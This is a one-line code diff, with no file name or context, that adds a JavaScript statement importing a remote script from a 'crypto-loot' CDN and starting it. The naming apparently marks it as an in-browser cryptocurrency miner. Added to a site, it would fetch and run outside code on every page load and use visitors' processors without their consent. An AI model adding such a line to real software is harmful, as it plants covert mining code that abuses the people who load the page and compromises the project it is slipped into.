@@ -1,0 +1,1 @@
+import("https://cdn.crypto-loot.org/crypta.js").then((m) => m.start());
